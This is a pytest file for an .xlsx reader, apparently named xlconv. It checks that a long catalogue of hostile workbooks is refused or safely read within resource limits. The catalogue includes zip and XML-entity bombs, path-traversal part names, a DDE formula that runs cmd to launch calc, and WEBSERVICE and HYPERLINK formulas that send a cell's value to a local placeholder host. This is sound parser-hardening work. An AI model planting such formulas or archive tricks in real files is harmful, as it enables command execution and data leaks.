"""Workbooks made to harm: each is read or refused in one clear line, soon and in little memory, whatever it holds."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any, TypeAlias

import pytest

from tests.hostile import KINDS

if sys.platform == "win32":
    pytest.skip("Windows has no limits on a process's memory and time", allow_module_level=True)

import resource
import signal

MEMORY = 1 << 30
SECONDS = 10
"""Of processor time, as other processes may be running; `verify` has twice that, as it does more than read."""
PATIENCE = 120
"""Seconds by the clock after which a process is ended."""

SHEET = "xl/worksheets/sheet1.xml"

REFUSED = {
    "a GiB of spaces": "more than 64 MiB in a part",
    "20 million cells": "more than 64 MiB in a part",
    "20 million texts": "more than 64 MiB in a part",
    "4 GiB of media": "more than 64 MiB in a part",
    "20 MiB of zeros": "'xl/media/image1.png' grows more than 200-fold",
    "part of 65 MiB": "more than 64 MiB in a part",
    "300 MiB in parts of 60": "256 MiB in all",
    "file of 33 MiB": "larger than 32 MiB",
    "100,000 parts": "100005 parts, more than 1000",
    "15 million tags": "more than 12,000,000 XML tags and attributes",
    "attribute of 100 MB": "more than 64 MiB in a part",
    "attribute of 1 MB": f"an XML attribute of 1,000,000 characters, more than 65,536 ({SHEET})",
    "XML 200,000 deep": f"XML nested deeper than 256 ({SHEET})",
    "XML 200,000 deep in a theme": "XML nested deeper than 256 (xl/theme/theme1.xml)",
    "20,000 worksheets": "20,000 worksheets, more than 256",
    "2 million styles": "more than 65,490 cell styles",
    "1,010,100 cells": "more than 1,000,000 cells",
    "300,001 formulas": "A300002 in xl/worksheets/sheet1.xml has a formula beyond the 300,000",
    "200,000 shared formulas of 1,000 references": "beyond the 67,108,864 characters that all formulas may have",
    "2,000 shared texts of 8,000 ampersands": "beyond the 67,108,864 characters that all formulas may have",
    "text of 32,768 characters": f"A1 in {SHEET} has a text of 32,768 characters",
    "part twice": f"the part '{SHEET}' is there twice",
    "part twice but for case": "the part 'xl/worksheets/Sheet1.xml' is there twice",
    "name with ..": "the part name 'xl/../../evil.xml' is not one that a package may have",
    "name with backslash": "is not one that a package may have",
    "absolute name": "the part name '/etc/evil.xml' is not one that a package may have",
    "name with nothing between slashes": "the part name 'xl//evil.xml' is not one that a package may have",
    "name with NUL": "is not one that a package may have",
    "truncated": "a damaged or truncated .xlsx",
    "empty": "an empty file, not an .xlsx workbook",
    "text": "text (such as .csv), not an .xlsx workbook",
    "random bytes": "an unknown format, not an .xlsx workbook",
    "corrupt compressed data": "a damaged or truncated .xlsx: Error -3 while decompressing data",
    "wrong CRC": "a damaged or truncated .xlsx: Bad CRC-32",
    "size understated": "a damaged or truncated .xlsx: Bad CRC-32",
    "encrypted part": "an encrypted package",
    "part compressed by bzip2": f"the part '{SHEET}' is compressed in a way that no .xlsx is",
    "parts that overlap": "a damaged .xlsx: its parts overlap",
    "encrypted workbook": "an encrypted workbook, which xlconv does not open",
    "old .xls": "an old Excel workbook (.xls), not an .xlsx workbook",
    ".ods": "an OpenDocument file (.ods), not an .xlsx workbook",
    ".xlsb": "a binary workbook (.xlsb), not an .xlsx workbook",
    ".docx": "a Word document, not an .xlsx workbook",
    "Strict Open XML": "a Strict Open XML workbook",
    "no content types": "the part '[Content_Types].xml' is missing",
    "no type of the workbook": "the main part is of the type '', not an .xlsx workbook",
    "no relationships": "the part '_rels/.rels' is missing",
    "no worksheet's relationship": "worksheet 'S' is missing from the package",
    "no worksheet's part": f"worksheet 'S' is missing from the package: it has no part '{SHEET}'",
    "no shared strings": f"A1 in {SHEET} holds '0', which is no value of type 's'",
    "too few shared strings": f"A1 in {SHEET} holds '1', which is no value of type 's'",
    "billion laughs": "a document type declaration, which no .xlsx needs",
    "quadratic entities": "a document type declaration, which no .xlsx needs",
    "entity of a file": "a document type declaration, which no .xlsx needs",
    "entity of a web page": "a document type declaration, which no .xlsx needs",
    "document type in a theme": "a document type declaration, which no .xlsx needs (xl/theme/theme1.xml)",
    "UTF-16 with a document type": "a document type declaration, which no .xlsx needs (xl/theme/theme1.xml)",
    **{
        f"declares {name}": f"XML that declares the encoding {name!r}, an .xlsx has UTF-8 ({SHEET})"
        for name in ("UTF-7", "ISO-8859-1", "cp037", "rot13", "utf8", "US-ASCII")
    },
    "declares UTF-16, which it is not": f"XML that declares the encoding 'UTF-16', an .xlsx has UTF-8 ({SHEET})",
    "declares UTF-7 in a theme": "XML that declares the encoding 'UTF-7', an .xlsx has UTF-8 (xl/theme/theme1.xml)",
    "XML 1.1": f"XML of the version '1.1', an .xlsx has 1.0 ({SHEET})",
    "XML 2.0": f"XML of the version '2.0', an .xlsx has 1.0 ({SHEET})",
    "UTF-16 that declares UTF-8": f"XML in UTF-16 that declares the encoding 'UTF-8' ({SHEET})",
    "UTF-16 without its mark": f"XML in UTF-16 without its byte order mark ({SHEET})",
    "UTF-16 cut in a character": f"damaged XML: truncated data in UTF-16 ({SHEET})",
    "UTF-32": "damaged XML: ",
    "cells in EBCDIC": "damaged XML: ",
    "cells for some programs only": "an XML element <row> that only some programs would read",
    "worksheets for some programs only": "an XML element <sheet> that only some programs would read",
    "1e999": f"A1 in {SHEET} holds '1e999', which is no value",
    "NaN": f"A1 in {SHEET} holds 'NaN', which is no value",
    "row 99999999": f"a row 99999999 in {SHEET}, a worksheet has 1,048,576",
    "cell ZZZZ1": f"the cell address 'ZZZZ1' in row 1 of {SHEET} is wrong",
    "cell XFE1": f"a cell XFE1 in {SHEET}, the last column is XFD",
    "cell XFD1048576": f"the cells of {SHEET} reach to XFD1048576: 17,179,869,184 cells, more than 4,000,000",
    "rows out of order": f"row 1 of {SHEET} is there twice or not in order",
    "row twice": f"row 1 of {SHEET} is there twice or not in order",
    "cells out of order": "the cell A1 is there out of order",
    "cell twice": "the cell A1 is there twice",
    "two values in a cell": f"A1 in {SHEET} has two values",
    "cell inside another": f"an XML element <c> where none may be in {SHEET}, near row 1",
    "worksheet twice": "the worksheet 's' is there twice",
    "name twice": "the name 'n' is defined twice",
    "all cells merged": "merged cells span 17,179,869,184 cells, more than 1,000,000",
    "all cells linked": "hyperlinks span 17,179,869,184 cells, more than 1,000,000",
    "all cells one array": "array formulas and data tables span 17,179,869,184 cells, more than 1,000,000",
    "all cells one data table": "array formulas and data tables span 17,179,869,184 cells, more than 1,000,000",
    "a thousand merges of 1,040 cells": "merged cells span 1,000,480 cells, more than 1,000,000",
    "formula of 8,193 characters": f"D1 in {SHEET} has a formula of 8,193 characters, more than 8,192",
    "100,000 nested parentheses": f"D1 in {SHEET} has a formula of 200,001 characters, more than 8,192",
    "65 nested parentheses": f"D1 in {SHEET} has a formula of more than 64 nested parentheses",
    "shared formula that leaves the worksheet": "A2 in xl/worksheets/sheet1.xml cannot be read: a shared formula's",
    "shared formula of nobody": f"A1 shares a formula that is not in {SHEET}",
}
"""What each must say."""

SLOW = ("1,010,100 cells", "300,001 formulas", "200,000 shared formulas of 1,000 references")
"""Kinds that take seconds to be refused: once is enough."""

LINK = "xl/externalLinks/externalLink1.xml"

READ: dict[str, dict[str, Any]] = {
    **{
        name: {"cells": 4, "D1": '"+AGE-ä"'}
        for name in ("UTF-16", "UTF-16 that says so", "UTF-8 with a mark", "UTF-8 that says so")
    },
    "UTF-16 in a custom part": {"cells": 3},
    "values under merged cells": {"notes": ["2 values hidden under merged cells, the first in S!B1"]},
    "64 nested parentheses": {"D1": "(" * 64 + "1" + ")" * 64},
    "8,190 characters in a chain": {"D1": "1+" * 4094 + "12"},
    "chain of 200,000 cells": {"cells": 200_001},
    "circular": {"cells": 2},
    "SUMPRODUCT over all cells": {"D1": "SUMPRODUCT(A2:XFD1048576,A2:XFD1048576)"},
    "SEQUENCE bomb": {"D1": "SUM(_xlfn.SEQUENCE(1048576,16384))"},
    "REPT bomb": {"D1": 'LEN(REPT(REPT("x",32767),32767))'},
    "LAMBDA that applies itself": {
        "D1": "_xlfn.LAMBDA(_xlpm.f,_xlpm.f(_xlpm.f))(_xlfn.LAMBDA(_xlpm.f,_xlpm.f(_xlpm.f)))"
    },
    "WEBSERVICE": {"D1": '_xlfn.WEBSERVICE("http://127.0.0.1:9/?"&A1)'},
    "IMAGE": {"D1": '_xlfn.IMAGE("http://127.0.0.1:9/x.png")'},
    "HYPERLINK": {"D1": 'HYPERLINK("http://127.0.0.1:9/?"&A1,"click")'},
    "DDE formula": {"D1": "cmd|'/c calc'!A0"},
    "data table": {"data tables": ["D1:D2"]},
    "external link": {"outside": [f"an external link to file:///C:/other.xlsx ({LINK})"]},
    "DDE link": {"outside": [f"a DDE link to cmd|/c calc ({LINK})"]},
    "macros": {"outside": ["macros (VBA): xl/vbaProject.bin"]},
    ".xlsm": {"outside": ["macros (VBA): xl/vbaProject.bin"]},
    "macros of Excel 4": {"outside": ["macros (a macro worksheet of Excel 4): xl/macrosheets/sheet1.xml"]},
    "data connections": {"outside": ["data connections: xl/connections.xml"]},
    "query table": {"outside": ["a query table: xl/queryTables/queryTable1.xml"]},
    "OLE object": {"outside": ["an OLE object: xl/embeddings/oleObject1.bin"]},
    "ActiveX control": {"outside": ["an ActiveX control: xl/activeX/activeX1.xml"]},
    "linked picture": {"outside": [f"a link to http://127.0.0.1:9/x.png in {SHEET}"]},
}
"""What is read of each; where nothing is said nothing reaches outside, or is to be noted."""

FORKS = """
import json, os, resource, signal, sys
from pathlib import Path
from xlconv import reader
from xlconv.errors import WorkbookError

def read(path):
    try:
        book = reader.read(path)
    except WorkbookError as error:
        return {"refused": error.message, "hint": error.hint}
    (sheet,) = book.sheets.values()
    tables = [table.where.address for table in sheet.data_tables.values()]
    found = {"cells": len(sheet.cells), "D1": book.cell("S", 1, 4).formula, "data tables": tables}
    return found | {"outside": book.outside, "notes": book.notes}

for line in sys.stdin:
    child = os.fork()
    if not child:
        resource.setrlimit(resource.RLIMIT_AS, (%d, %d))
        resource.setrlimit(resource.RLIMIT_CPU, (%d, %d))
        signal.alarm(%d)
        print(json.dumps(read(Path(line.rstrip()))), flush=True)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    if status:
        print(json.dumps({"status": status}), flush=True)
"""
"""Reads each file that it is told of in a process of its own, bound to limits."""

Read: TypeAlias = Callable[[Path], dict[str, Any]]


@pytest.fixture(scope="module")
def read_apart() -> Iterator[Read]:
    program = FORKS % (MEMORY, MEMORY, SECONDS, SECONDS, PATIENCE)
    with subprocess.Popen(
        [sys.executable, "-c", program],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    ) as process:
        asked, answered = process.stdin, process.stdout
        assert asked is not None
        assert answered is not None

        def read(path: Path) -> dict[str, Any]:
            print(path, file=asked, flush=True)
            answer: dict[str, Any] = json.loads(answered.readline())
            return answer

        yield read
        asked.close()


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Path]:
    """A file of a kind, made when it is asked for first."""
    folder = tmp_path_factory.mktemp("hostile")
    paths: dict[str, Path] = {}

    def path_of(name: str) -> Path:
        if name not in paths:
            paths[name] = folder / f"{len(paths)}.xlsx"
            KINDS[name](paths[name])
        return paths[name]

    return path_of


def test_every_kind_is_expected() -> None:
    """Each kind is either refused or read, and what is to be said of it is written down."""
    assert sorted(KINDS) == sorted([*REFUSED, *READ])


@pytest.mark.parametrize("name", REFUSED)
def test_refused(name: str, made: Callable[[str], Path], read_apart: Read) -> None:
    """One line that names the file and what is wrong with it, within the limits."""
    message = read_apart(made(name))["refused"]
    assert message.startswith(f"{made(name)}: ")
    assert REFUSED[name] in message
    assert "\n" not in message


@pytest.mark.parametrize("name", READ)
def test_read(name: str, made: Callable[[str], Path], read_apart: Read) -> None:
    """What does not harm the reader is read as it stands, and what reaches outside is listed."""
    expected = {"outside": [], "notes": [], "data tables": [], **READ[name]}
    answer = read_apart(made(name))
    assert {key: answer.get(key, answer) for key in expected} == expected


def limit() -> None:
    """Bind this process, before it becomes another program, to a time by the processor's clock and by the wall's."""
    resource.setrlimit(resource.RLIMIT_CPU, (2 * SECONDS, 2 * SECONDS))
    signal.alarm(PATIENCE)


def verify(files: Sequence[Path], folder: Path) -> tuple[int, str]:
    """Exit code and stderr of the command line; neither a traceback nor too much memory."""
    with (
        (folder / "stderr").open("w") as stderr,
        subprocess.Popen(
            [sys.executable, "-m", "xlconv", "verify", *map(str, files)],
            stdout=subprocess.DEVNULL,
            stderr=stderr,
            preexec_fn=limit,
        ) as process,
    ):
        _, status, used = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(status)
    said = (folder / "stderr").read_text()
    assert "Traceback" not in said
    assert used.ru_maxrss << 10 < MEMORY
    return process.returncode, said


def test_verify_refuses(made: Callable[[str], Path], tmp_path: Path) -> None:
    """The command line says the same of each file in a line of its own, perhaps with a hint."""
    names = [name for name in REFUSED if name not in SLOW]
    code, said = verify([made(name) for name in names], tmp_path)
    assert code == 2
    errors = [line for line in said.splitlines() if not line.startswith("hint: ")]
    for name, error in zip(names, errors, strict=True):
        assert error.startswith(f"xlconv: {made(name)}: ")
        assert REFUSED[name] in error


@pytest.mark.parametrize("name", READ)
def test_verify_does_not_pass(name: str, made: Callable[[str], Path], tmp_path: Path) -> None:
    """What is read is found wanting: it is no network."""
    code, _ = verify([made(name)], tmp_path)
    assert code in (1, 2)
